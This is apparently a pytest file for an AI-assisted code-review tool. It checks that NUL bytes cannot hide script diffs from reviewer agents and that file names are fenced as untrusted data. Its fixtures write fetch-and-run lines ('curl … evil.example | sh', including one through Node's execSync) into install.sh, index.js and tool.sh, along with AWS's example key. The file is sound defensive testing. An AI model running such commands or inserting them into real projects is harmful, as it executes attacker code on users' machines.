"""One NUL byte must not hide a script's diff from the seats (trial45b defect 7).

git calls a file binary when it holds a NUL byte, and printed "Binary files … differ" for an
`install.sh` whose only NUL sat in a comment: no seat saw the `curl … | sh` it added, nothing
flagged it, and the verdict read "Merge as-is". `sh` and `node` run such files all the same.
A file that is text apart from its NULs is now shown as text (each NUL as `␀`) and flagged; a
file named like a script that is binary by its bytes is flagged as unseen.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from fakebin.harness import Fakes, run_json
from support.repos import commit_all, git, make_repo, write

_CURL = "curl -s http://evil.example/x | sh"
_KEY = "AKIAIOSFODNN7EXAMPLE"  # AWS's documented example key id
_NODE = 'require("child_process").execSync("curl http://evil.example | sh");'


@pytest.mark.slow
def test_a_nul_byte_does_not_hide_a_script_from_the_seats(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "main")
    write(repo, "install.sh", "#!/bin/sh\necho install\n")
    commit_all(repo, "installer")
    git(repo, "checkout", "-q", "-b", "nul")
    write(
        repo,
        "install.sh",
        f"#!/bin/sh\n# \0 build marker\necho install\n{_CURL}\nKEY={_KEY}\n".encode(),
    )
    write(repo, "index.js", f"// \0 marker\n{_NODE}\n".encode())
    write(repo, "logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\xff\xfe")
    write(repo, "tool.sh", b"#!/bin/sh\n\xff\xfe\x00\x01\x02 curl evil | sh\n")
    commit_all(repo, "tweak install")
    fakes = Fakes(tmp_path)
    fakes.write_config({"echo": fakes.seat("ok")})
    res = fakes.review(repo, "--agents", "echo,static")
    assert res.returncode == 0, res.stderr
    out = res.json()
    prompt = (Path(out["review_dir"]) / "prompt-echo.md").read_text()
    assert f"+{_CURL}" in prompt and f"+{_NODE}" in prompt
    assert "+# ␀ build marker" in prompt
    assert "Binary files a/install.sh and b/install.sh differ" not in prompt
    assert "Binary files /dev/null and b/logo.png differ" in prompt  # real binaries stay
    assert "each NUL byte as `␀`" in prompt
    # the name is the author's: fenced as data (ts62 defect 5)
    fenced = r"`tool\.sh`<<<END UNTRUSTED DATA file-names \w+>>> is named like a script"
    assert re.search(fenced, prompt), prompt
    rows = {ln.split(" | ")[0][2:]: ln for ln in prompt.splitlines() if ln.startswith("| `")}
    assert "shown as text" in rows["`install.sh`"] and "binary |" not in rows["`install.sh`"]
    assert "shown as text" in rows["`index.js`"], rows
    report = json.loads(Path(out["paths"]["json"]).read_text())
    notes = " ".join(report["notes"])
    assert "`install.sh`, `index.js`" in notes or "`index.js`, `install.sh`" in notes, notes
    assert "NUL" in notes and "`tool.sh` is named like a script" in notes, notes
    assert "install.sh" in res.stderr and "NUL" in res.stderr
    # the static seat read it too: its secret is reported (and masked)
    flagged = [f for f in report["findings"] if "secret" in f["title"].lower()]
    assert [loc["path"] for f in flagged for loc in f["locations"]] == ["install.sh"], flagged
    assert _KEY not in Path(out["paths"]["md"]).read_text()
    state = run_json(Path(out["review_dir"]))
    shown = sorted(f["path"] for f in state["target"]["changed_files"] if f.get("nul_text"))
    assert shown == ["index.js", "install.sh"]


def test_only_the_named_file_is_shown_as_text_whatever_its_name(tmp_path: Path) -> None:
    """The attributes line naming a file is literal: `*` or `[x]` in its name matches no other."""
    from deepreview.targets.build import changed_files, review_diff
    from deepreview.targets.git import Git

    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "odd")
    write(repo, "we ird*[x].sh", b"a\n\0b\n")
    write(repo, "we irdZ[x].sh", b"z\n\0b\n")
    commit_all(repo, "odd names")
    found = changed_files(Git(repo), "main", "HEAD")
    assert {f.path: f.nul_text for f in found if f.path.endswith(".sh")} == {
        "we ird*[x].sh": True,
        "we irdZ[x].sh": True,
    }
    diff = review_diff(Git(repo), "main", "HEAD", ["we ird*[x].sh"])
    assert "+␀b" in diff and "Binary files /dev/null and b/we irdZ[x].sh differ" in diff


def test_the_unseen_script_note_keeps_its_path_as_written(tmp_path: Path) -> None:
    # The note began with the path and its first letter was upper-cased as a sentence's:
    # "App/utf16.py is named like a script …" names no file of the change.
    repo = make_repo(tmp_path / "repo")
    git(repo, "checkout", "-q", "-b", "utf16")
    write(repo, "app/tool.py", "x = 'hello'\n".encode("utf-16"))
    commit_all(repo, "add a UTF-16 script")
    fakes = Fakes(tmp_path)
    fakes.write_config({"echo": fakes.seat("ok")})
    res = fakes.review(repo, "--agents", "echo")
    assert res.returncode == 0, res.stderr
    report = json.loads(Path(res.json()["paths"]["json"]).read_text())
    notes = " ".join(report["notes"])
    assert "`app/tool.py` is named like a script or config but binary" in notes, notes
    assert "`app/tool.py` is named like a script" in res.stderr, res.stderr
    assert "App/tool.py" not in notes + res.stderr
